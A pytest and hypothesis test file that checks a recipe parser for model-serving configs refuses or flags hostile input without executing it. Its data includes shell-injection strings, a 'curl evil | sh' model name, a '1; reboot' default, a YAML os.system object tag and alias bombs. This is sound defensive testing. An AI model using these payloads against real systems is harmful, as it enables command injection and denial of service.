"""Recipes that nobody should trust: bombs, duplicates, tags, shells within names. Refused or told by line."""

from __future__ import annotations

import contextlib
import subprocess
from pathlib import Path

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from canserve.recipes.reading import read_recipe
from canserve.recipes.trouble import MAX_CHARACTERS, MAX_DEPTH, RecipeError
from canserve.subjects.recipe import Recipe

FIXTURES = sorted((Path(__file__).parent / "fixtures").iterdir())

BILLION = "\n".join(
    ["a0: &a0 [x, x, x, x, x, x, x, x, x]"]
    + [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]" for n in range(1, 12)]
)
SELF = "a: &a\n  b: *a\n"

REFUSED: dict[str, tuple[str, int | None, str]] = {
    "aliases of aliases": (f"services:\n  s: {{image: x}}\n{BILLION}", 7, "aliases included"),
    "an alias within itself": (SELF, 2, "stands for nothing"),
    "an alias of nothing": ("model: *x\ncontainer: y\n", 1, "stands for nothing"),
    "a key twice": ("model: a\ncontainer: b\nmodel: c\n", 3, "first on line 1"),
    "a key twice, quoted": ('services:\n  s:\n    image: a\n    "image": b\n', 4, "first on line 3"),
    "an object": ("model: !!python/object/apply:os.system ['touch x']\ncontainer: y\n", 1, "is not read"),
    "a tag of compose": ("services:\n  s:\n    ports: !reset []\n", 3, "is not read"),
    "a key that is a list": ("services:\n  ? [a, b]\n  : c\n", 2, "no text"),
    "too deep": ("services: " + "[" * (MAX_DEPTH + 5) + "]" * (MAX_DEPTH + 5), 1, "deep"),
    "no YAML": ("services:\n  s: {image: x\n", None, "not YAML"),
    "a tab": ("services:\n\ts: x\n", 2, "not YAML"),
    "merged text": ("services:\n  s:\n    <<: hello\n", 3, "merges what is no mapping"),
    "nothing known": ("foo: {bar: 1}\nbaz: [1]\n", None, "no form of recipe"),
    "too long": ("# " + "x" * MAX_CHARACTERS, None, "longer than"),
    "zeros": ("model: a\0b\n", None, "zeros"),
}


@pytest.mark.parametrize("name", REFUSED)
def test_refused_as_a_whole(name: str) -> None:
    text, line, why = REFUSED[name]
    with pytest.raises(RecipeError, match=why) as caught:
        read_recipe(text, "x.yaml")
    assert line is None or caught.value.line == line


INJECTIONS = [
    "x; touch pwned",
    "x && touch pwned",
    "x | sh",
    "$(touch pwned)",
    "`touch pwned`",
    "x\ntouch pwned",
    "x > pwned",
    "${IFS}touch${IFS}pwned",
    "x' ; touch pwned; '",
    'x"; touch pwned; "',
    "../*; touch pwned",
]


def told(recipe: Recipe, line: int) -> bool:
    """Whether something is refused, or left open in what decides, on this line or a neighbour that it reaches."""
    return any(one.line == line for one in recipe.refused) or any(
        one.line == line and one.decides for one in recipe.open
    )


@pytest.mark.parametrize("model", INJECTIONS)
def test_a_name_with_a_shell_in_it_is_told_by_line_and_never_executed(
    model: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    quoted = model.replace("\\", "\\\\").replace('"', '\\"').replace("\n", "\\n")
    structured = f'recipe_version: "2"\ncontainer: vllm/vllm-openai:v1\nmodel: "{quoted}"\nruntime: vllm\n'
    assert told(read_recipe(structured, "r.yaml"), 3), model
    compose = f'services:\n  s:\n    image: vllm/vllm-openai:v1\n    command: ["--model", "{quoted}"]\n'
    recipe = read_recipe(compose, "c.yaml")
    assert told(recipe, 4) or (recipe.model is not None and "${IFS}" in recipe.model.value), model
    assert list(tmp_path.iterdir()) == []


def test_a_template_that_a_name_breaks_out_of_ends_the_name() -> None:
    text = 'model: "x; curl evil | sh"\ncontainer: a/b\ncommand: |\n  vllm serve {model} --port 1\n'
    recipe = read_recipe(text, "r.yaml")
    assert recipe.refused and recipe.refused[0].line == 1
    assert "--port" not in recipe.flags  # a shell would not give it to the server either
    assert any("line 4: not read: curl evil" in note for note in recipe.notes)


def test_a_default_that_begins_a_command_is_refused() -> None:
    text = 'model: a/b\ncontainer: a/b\ndefaults:\n  port: "1; reboot"\n  json: \'{"a": "x;y"}\'\n'
    recipe = read_recipe(text + "command: vllm serve {model} --port {port} --x '{json}'\n", "r.yaml")
    assert [(one.line, one.why) for one in recipe.refused] == [
        (4, "port holds ;, which a shell would execute in the command")
    ]


def test_nothing_is_taken_from_this_process(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("MODEL", "from/here")
    for text, name in (
        ("vllm serve $MODEL", "-"),
        ("services: {s: {image: 'vllm/vllm-openai:v1', command: '--model $MODEL'}}", "c.yaml"),
        ("[Service]\nExecStart=vllm serve ${MODEL}\n", "u.service"),
    ):
        recipe = read_recipe(text, name)
        assert recipe.model is not None and "from/here" not in repr(recipe)
        assert any(one.decides and one.where == "the model" for one in recipe.open)


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.text(max_size=400), st.sampled_from(["-", "a.yaml", "a.service", "a.env", "a.sh", "a.container"]))
@example("${a:-${b:-${c:-$(d `e`)}}}", "-")
@example("vllm serve \\", "-")
@example("docker run -e", "-")
@example("docker run --mount type=bind x", "-")
@example("bash -c", "-")
@example("[Service]\nExecStart=\\", "a.service")
@example("vllm serve " + "$((" * 50, "-")
@example("A=(", "-")
@example("<<EOF", "-")
@example("timeout", "-")
def test_any_text_is_read_or_refused(text: str, name: str) -> None:
    with contextlib.suppress(RecipeError):
        read_recipe(text, name)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    st.sampled_from(FIXTURES),
    st.lists(
        st.tuples(st.floats(0, 1), st.integers(0, 12), st.text("'\"$`{}[]()<>|&;:#\\\n\t -=*a0", max_size=6)),
        max_size=6,
    ),
)
def test_damaged_recipes_are_read_or_refused(path: Path, changes: list[tuple[float, int, str]]) -> None:
    text = path.read_text()
    for where, length, new in changes:
        at = int(where * len(text))
        text = text[:at] + new + text[at + length :]
    try:
        recipe = read_recipe(text, path.name)
    except RecipeError:
        return
    last = text.count("\n") + 2
    assert all(0 <= key.line <= last for key in recipe.keys)
    assert all(0 <= word.line <= last for command in recipe.commands for word in command.argv)


@settings(max_examples=60, deadline=None)
@given(st.lists(st.text("abc \\'\"$`;&|<>(){}*?#~!=\t\n", max_size=12), min_size=1, max_size=5))
def test_words_that_are_quoted_are_the_words(words: list[str]) -> None:
    import shlex

    recipe = read_recipe("vllm serve m " + " ".join(map(shlex.quote, words)), "-")
    assert recipe.commands[0].words[3:] == tuple(words)


PLAIN = st.text("ab1._/:-", min_size=1, max_size=6)


@settings(max_examples=40, deadline=None)
@given(
    st.lists(
        st.one_of(
            PLAIN, PLAIN.map(lambda w: f"'{w} $x'"), PLAIN.map(lambda w: f'"{w} $x ${{y:-{w}}}"'), st.just("\\\n  "),
            st.sampled_from(["$x", "${x}", "${y:-d e}", '"${x}"', "a\\ b", '"a\\"b"', "x\\\ny", "${z-}", "''"]),
        ),
        max_size=8,
    )
)  # fmt: skip
def test_a_shell_would_see_the_same_words(pieces: list[str]) -> None:
    text = " ".join(pieces)
    script = f"x='v w'\nprintf '%s\\0' {text}\n"
    done = subprocess.run(
        ["sh", "-c", script], capture_output=True, check=True, env={"PATH": "/usr/bin:/bin"}
    )
    expected = tuple(done.stdout.decode().split("\0")[:-1])
    recipe = read_recipe(f"x='v w'\nvllm serve {text}\n", "-")
    got = recipe.commands[0].words[2:]
    assert got == expected or (not got and expected == ("",))


def test_a_value_that_is_set_under_a_condition_is_left_open() -> None:
    text = "M=a/b\nif [ -d x ]; then M=c/d; fi\nvllm serve $M\n[ -z $TP ] && TP=2\nvllm serve a/b --tp $TP\n"
    recipe = read_recipe(text, "-")
    assert recipe.model is not None and recipe.model.value == "$M"
    doubtful = [(one.what, one.line) for one in recipe.open if "under a condition" in one.why]
    assert doubtful == [("$M", 3), ("$TP", 5)]


DOUBLING = "A=xxxxxxxxxxxxxxxx\n" + "A=$A$A\n" * 60 + "vllm serve $A\n"
WORDS = "A=(x x x x)\n" + 'A=("${A[@]}" "${A[@]}")\n' * 60 + 'vllm serve m "${A[@]}"\n'
NAMES = (
    "model: a/b\ncontainer: c/d\ndefaults:\n  a: '" + "{b}" * 999 + "'\n  b: '" + "{c}" * 999 + "'\n  c: '"
)
GROWING = {
    "a variable that doubles": (DOUBLING, "-"),
    "an array that doubles": (WORDS, "-"),
    "a template of templates": (NAMES + "x" * 999 + "'\ncommand: vllm serve {a}\n", "r.yaml"),
    "a long value, many times": ("services:\n  s:\n    image: &x " + "y" * 99_000 + "\n    command: ["
                                 + "*x, " * 9_000 + "]\n", "c.yaml"),
    "a variable of a pod": ("apiVersion: v1\nkind: Pod\nspec: {containers: [{env: [{name: A, value: " + "x" * 50_000
                            + "}], command: ['" + "$(A)" * 9_000 + "']}]}\n", "p.yaml"),
    "everything is open": ("vllm serve m " + " ".join(f"$A{n}" for n in range(3_000)), "-"),
    "words without end": ("vllm serve " + "a " * 100_000, "-"),
}  # fmt: skip


@pytest.mark.parametrize("name", GROWING)
def test_what_grows_is_refused(name: str) -> None:
    text, file = GROWING[name]
    with pytest.raises(RecipeError, match="more than"):
        read_recipe(text, file)


LONG = {
    "open brackets": "vllm serve " + "${a:-" * 40_000,
    "closed brackets": "vllm serve " + "${a:-" * 40_000 + "}" * 40_000,
    "open commands": "vllm serve " + "$(" * 100_000,
    "quotes": "vllm serve " + "'\"" * 100_000,
    "backslashes": "vllm serve " + "\\" * 200_000,
    "units": "[Service]\nExecStart=vllm serve " + "'\\\"" * 60_000,
    "unit lines": "[Service]\n" + "A=\\\n" * 40_000,
    "documents": "here" + " <<A" * 50_000,
    "comments": "# vllm >=" * 25_000,
    "stated": "# requires needs min vllm version versions : " * 5_000,
    "assignments": "A=1 " * 60_000,
    "nothing": " \n" * 120_000,
    "brackets of a template": "container: a/b\nmodel: c/d\ncommand: vllm serve " + "{" * 200_000,
}


@pytest.mark.parametrize("name", LONG)
def test_what_is_long_ends(name: str) -> None:
    with contextlib.suppress(RecipeError):
        read_recipe(LONG[name], "r.yaml" if name.endswith("template") else "-")


def test_text_that_is_written_in_place_is_passed_over() -> None:
    recipe = read_recipe("cat > x <<'EOF'\nvllm serve other\nEOF\nvllm serve a/b\n", "-")
    assert recipe.model is not None and (recipe.model.value, recipe.model.line) == ("a/b", 4)
    assert not recipe.refused and any(
        note.startswith("line 1: text that is written") for note in recipe.notes
    )
